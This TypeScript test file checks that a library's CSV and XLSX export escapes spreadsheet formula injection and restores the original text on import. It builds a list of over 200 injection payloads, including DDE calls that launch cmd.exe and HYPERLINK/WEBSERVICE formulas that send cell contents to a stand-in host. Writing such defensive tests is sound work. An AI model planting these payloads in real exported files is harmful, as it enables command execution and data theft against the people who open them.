import { describe, expect, it } from 'vitest';

import { createField } from '../../../tests/support/testDescriptors.ts';
import { createCsvWriter } from '../transfer/table/createCsvWriter.ts';
import { readTable } from '../transfer/table/readTable.ts';
import { unzipParts } from '../transfer/table/unzip.ts';
import { createXlsxWriter } from '../transfer/table/createXlsxWriter.ts';
import { escapeFormula, unescapeFormula } from './formula.ts';
import { readCell } from './readCell.ts';
import { writeCell } from './writeCell.ts';

const CALLS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example/?"&A1,"open")',
  'WEBSERVICE("http://x.example")',
  'IMPORTXML("http://x.example","//a")',
  'DDE("cmd";"/C calc";"__DdeLink")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  '1+1',
  'A1',
  'IMAGE("http://x.example/p")',
  "msexcel|'\\..\\..\\cmd.exe /c calc'!A0",
];
const BEGINNINGS = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', '\t', '\r', '\n'],
  ...['＝', '＋', '－', '＠', '−', ' =', '  @', '\u00a0=', '\u3000＝', '\u200b='],
  ...['\ufeff=', '"=', "'=", "''=", '=-', '+-', '@@', '-+', '==', '\u2060+'],
];
const PAYLOADS = BEGINNINGS.flatMap(beginning => CALLS.map(call => beginning + call));

/**
 * Whether a spreadsheet would evaluate the cell as a formula, as far as known: after blanks and marks that it skips.
 */
const isCalculated = (cell: string) =>
  /^[\s\u200b-\u200f\u2060\ufeff"]*[=+\-@＝＋－＠−]/u.test(cell) || /^[\t\r\n]/u.test(cell);

const bytesOf = (parts: readonly Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const text = createField({ kind: 'text' });
const number = createField({ kind: 'number' });
const context = { findRecordId: () => undefined };

/** Parses the cells of a CSV file like any other program. */
const cellsOf = (csv: string): readonly string[] =>
  Array.from(
    csv.replace('\ufeff', '').matchAll(/(?:"((?:[^"]|"")*)"|([^,\r\n]*))(?:,|\r\n)/gu),
    ([, quoted, bare = '']) => quoted?.replaceAll('""', '"') ?? bare,
  );

describe('a formula that is stored as a text', () => {
  it(`is none in a CSV file, for each of ${PAYLOADS.length} payloads; numbers stay numbers; all of it is restored [SEC-05]`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
    const numbers = [-5, 0, -0.25, 1e21, -1e-7, 42];
    const writer = createCsvWriter();
    writer.add([['head', 'n']]);
    writer.add(
      PAYLOADS.map((one, at) => [writeCell(text, one), writeCell(number, numbers[at % 6])]),
    );
    const bytes = bytesOf(writer.end());
    const cells = cellsOf(new TextDecoder().decode(bytes)).slice(2);
    expect(cells).toHaveLength(PAYLOADS.length * 2);
    expect(cells.filter((cell, at) => at % 2 === 0 && isCalculated(cell))).toEqual([]);
    expect(cells.filter((cell, at) => at % 2 === 1 && String(Number(cell)) !== cell)).toEqual([]);

    const back = readTable(bytes).rows.slice(1);
    expect(back.map(([cell = '']) => readCell(text, cell, context).value)).toEqual(PAYLOADS);
    expect(back.map(([, cell = '']) => readCell(number, cell, context).value)).toEqual(
      PAYLOADS.map((_, at) => numbers[at % 6]),
    );
  });

  it('is a text in a workbook, by its type and its style, and numbers are numbers [SEC-05]', () => {
    const writer = createXlsxWriter({ sheet: 'Lamps' });
    writer.add([['head', 'n']]);
    writer.add(PAYLOADS.map(one => [writeCell(text, one), writeCell(number, -5)]));
    const bytes = bytesOf(writer.end());
    const sheet = unzipParts(bytes, name => name === 'xl/worksheets/sheet1.xml').get(
      'xl/worksheets/sheet1.xml',
    );
    const xml = new TextDecoder().decode(sheet);
    expect(xml).not.toMatch(/<f[ >]/u);
    expect(xml.match(/<c r="A\d+" s="5" t="inlineStr">/gu)).toHaveLength(PAYLOADS.length);
    expect(xml.match(/<c r="B\d+"><v>-5<\/v><\/c>/gu)).toHaveLength(PAYLOADS.length);
    const back = readTable(bytes).rows.slice(1);
    expect(back.map(([cell = '']) => cell)).toEqual(PAYLOADS);
  });

  it('keeps the apostrophes that were its own', () => {
    for (const own of ["'", "''", "'quoted'", "'=1", "''=1", "it's", "'-5", '-5', '+5', '- a list'])
      expect(unescapeFormula(escapeFormula(own))).toBe(own);
    expect(escapeFormula('-5')).toBe('-5');
    expect(escapeFormula("it's")).toBe("it's");
  });
});
